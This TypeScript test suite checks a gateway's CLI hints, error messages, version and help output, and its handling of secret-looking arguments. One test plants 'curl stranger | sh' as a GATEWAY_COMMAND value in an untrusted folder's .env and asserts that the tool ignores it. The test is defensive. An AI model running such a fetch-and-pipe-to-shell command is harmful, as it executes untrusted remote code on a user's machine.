/** What the programs print as a command is pasted into the shell it was printed in, and works there. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { installCopy, whyNotForOthers } from '../support/installed-copy.ts';
import { projectDir, testNode } from '../support/service-command.ts';

const test = suite('printed commands');
const copy = installCopy('my gateway');
const env = { HOME: copy.makeFolder('home'), npm_config_offline: 'true' };
const { version } = JSON.parse(readFileSync(join(projectDir, 'package.json'), 'utf8'));
const stranger = copy.makeFolder('stranger');
copy.writeFile(join(stranger, 'package.json'), '{"name":"stranger","bin":{"svc-mcp":"not-ours.js"}}');

test.after(() => copy.remove());

/** The first command that is named in a sentence. */
function commandIn(text: string): string {
  return /`([^`]+)`/.exec(text)?.[1] ?? `no command in: ${text}`;
}

for (const [cwd, form] of [
  [copy.folder, /^npx svc-mcp /],
  [join(copy.folder, 'docs'), /^npx svc-mcp /],
  ['/', /svc-mcp\.js' /],
  [stranger, /svc-mcp\.js' /],
] as const) {
  const place = cwd === '/' ? cwd : cwd.slice(copy.folder.lastIndexOf('/') + 1);
  test(`a hint printed in ${place} names what works there`, async () => {
    const { code, stderr } = await copy.run('svc-mcp.js', ['lst'], { cwd, env });
    const hint = commandIn(stderr);
    const followed = await copy.shell(hint.replace('--help', 'client --help'), { cwd, env });

    assert.is(code, 2);
    assert.match(hint, form);
    assert.is(followed.code, 0, followed.stderr);
    assert.match(followed.stdout, `Usage: ${hint.replace(' --help', ' client')} `);
  });
}

test('a service that does not answer is said where it was looked for, with what starts it here', async () => {
  const here = await copy.run('svc-mcp.js', ['list', 'groups'], { cwd: copy.folder, env });
  const elsewhere = await copy.run('svc-mcp.js', ['list', 'groups'], { cwd: '/', env });

  assert.is(here.code, 1);
  assert.match(here.stderr, 'not answer on .data/admin.sock');
  assert.is(commandIn(here.stderr), 'npm start');
  assert.match(elsewhere.stderr, `not answer on ${copy.folder}/.data/admin.sock`);
  assert.match(
    (await copy.shell(`${commandIn(elsewhere.stderr)} --version`, { cwd: '/', env })).stdout,
    version,
  );
});

test('where the working directory was removed the commands work too, with failures as they are asked for', async () => {
  const gone = copy.makeFolder('gone');
  const run = (words: string) =>
    copy.shell(`rmdir '${gone}'; timeout 60 '${testNode}' '${copy.folder}'/bin/${words}`, { cwd: gone, env });
  const failed = await run('svc-mcp.js list groups --json');
  copy.makeFolder('gone');
  const told = await run('server.js --version');

  assert.is(failed.code, 1, failed.stderr);
  assert.is(JSON.parse(failed.stderr).error.code, 'service_unreachable');
  assert.equal([told.code, told.stdout], [0, `${version}\n`], told.stderr);
});

test('GATEWAY_COMMAND wins, from the environment and from `.env`', async () => {
  const named = { ...env, GATEWAY_COMMAND: 'docker compose exec -T manager node bin/svc-mcp.js' };
  const { stderr } = await copy.run('svc-mcp.js', ['lst'], { cwd: '/', env: named });

  assert.is(commandIn(stderr), `${named.GATEWAY_COMMAND} --help`);
});

test('`.env` of a folder where the service does not live names no command, and no address for its tokens', async () => {
  const folder = copy.makeFolder('project');
  const settings = ['GATEWAY_COMMAND=curl stranger | sh', 'INTERNAL_GATEWAY_URL=no url', 'DATA_DIR=theirs'];
  copy.writeFile(join(folder, '.env'), settings.join('\n'));
  const hint = await copy.run('svc-mcp.js', ['lst'], { cwd: folder, env });
  const refusal = await copy.run('svc-mcp.js', ['list', 'groups'], { cwd: folder, env });

  assert.not.match(hint.stderr, 'stranger');
  assert.match(refusal.stderr, `not answer on ${folder}/theirs/admin.sock`);
});

test('the Node of this process is named by its path where a shell would take another one, or none', async () => {
  const bare = { ...env, PATH: '/nonexistent' };
  const { stderr } = await copy.run('svc-mcp.js', ['lst'], { cwd: '/', env: bare });

  assert.ok(commandIn(stderr).startsWith(`${testNode} `), stderr);
});

test('both programs tell their version', async () => {
  for (const program of ['server.js', 'svc-mcp.js']) {
    const { code, stdout, stderr } = await copy.run(program, ['--version'], { cwd: '/', env });

    assert.equal({ code, stdout, stderr }, { code: 0, stdout: `${version}\n`, stderr: '' });
  }
});

test('the service’s --help starts nothing, and says how it is started and where its files would be', async () => {
  const { code, stdout, stderr } = await copy.run('server.js', ['--help'], { cwd: '/', env });
  const usage = /^Usage: (.+)$/m.exec(stdout)?.[1];

  assert.is(code, 0);
  assert.is(stderr, '');
  assert.match(stdout, `Its files: ${copy.folder}\n`);
  assert.match(stdout, join(copy.folder, '.env.example'));
  assert.match((await copy.shell(`${usage} --version`, { cwd: '/', env })).stdout, version);
  assert.not(copy.state().some((line) => line.startsWith('.data')));
});

test('the service takes no other argument, and repeats no value of one', async () => {
  for (const [args, sentence] of [
    [
      ['--port', '80'],
      /^Unknown option '--port': settings come from the environment and from `\.env`\. See /,
    ],
    [['--admin-token=hidden-5c1'], /^Unknown option '--admin-token': /],
    [['--help', 'hidden-5c1'], /^The service takes no such argument: /],
  ] as const) {
    const { code, stdout, stderr } = await copy.run('server.js', args, { cwd: '/', env });

    assert.is(code, 2);
    assert.is(stdout, '');
    assert.match(stderr, sentence);
    assert.not.match(stderr, 'hidden-5c1');
    assert.is(stderr.trim().split('\n').length, 1);
  }
});

const problem = whyNotForOthers();
if (problem !== undefined) console.error(`commands of another user: skipped, ${problem}`);
(problem === undefined ? test : test.skip)('nothing needs a place to write', async () => {
  const readOnly = installCopy('gateway', { isReadOnly: true });
  try {
    for (const program of ['server.js', 'svc-mcp.js']) {
      const options = { cwd: '/', env: { HOME: '/nonexistent' } };
      const { code, stdout, stderr } = await readOnly.run(program, ['--help'], options);
      assert.is(code, 0, stderr);
      assert.match(stdout, readOnly.folder);
    }
  } finally {
    await readOnly.remove();
  }
});

test.run();
